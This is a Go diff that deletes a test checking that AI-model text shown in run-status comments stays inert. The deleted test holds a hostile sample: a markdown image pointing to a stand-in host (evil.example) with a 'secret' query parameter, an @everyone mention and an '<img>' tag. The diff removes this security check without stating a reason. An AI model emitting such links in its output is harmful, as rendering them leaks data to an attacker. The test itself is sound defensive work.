@@ -8,7 +8,6 @@ import (
 	"net"
 	"strings"
 	"testing"
-	"unicode/utf8"
 
 	"github.com/jackc/pgx/v5/pgconn"
 )
@@ -80,22 +79,5 @@ func TestCleanJSON(t *testing.T) {
 				t.Errorf("cleanJSON produced invalid JSON %s", got)
 			}
 		})
-	}
-}
-
-func TestRenderStatusKeepsModelTextInert(t *testing.T) {
-	t.Parallel()
-	hostile := "`](https://evil.example) ![img](https://evil.example/?q=secret) @everyone\n# heading"
-	body := renderStatus(statusView{RunID: 3, State: StateRunning, Progress: &Progress{Step: 4, Tool: "<img src=x>", Summary: hostile}})
-	line := body[strings.Index(body, "Step 4"):]
-	if strings.Contains(line, "<img") || strings.Contains(line, "\n") {
-		t.Errorf("step line = %q: the tool name or a line break from the model got through", line)
-	}
-	if strings.Count(line, "`") != 2 {
-		t.Errorf("step line = %q: want the model text in exactly one code span", line)
-	}
-	long := renderStatus(statusView{RunID: 1, State: StateFailed, Summary: strings.Repeat("é", maxCommentChars)})
-	if len(long) > maxCommentChars || !utf8.ValidString(long) {
-		t.Errorf("long comment: %d bytes, valid UTF-8 %v", len(long), utf8.ValidString(long))
 	}
 }
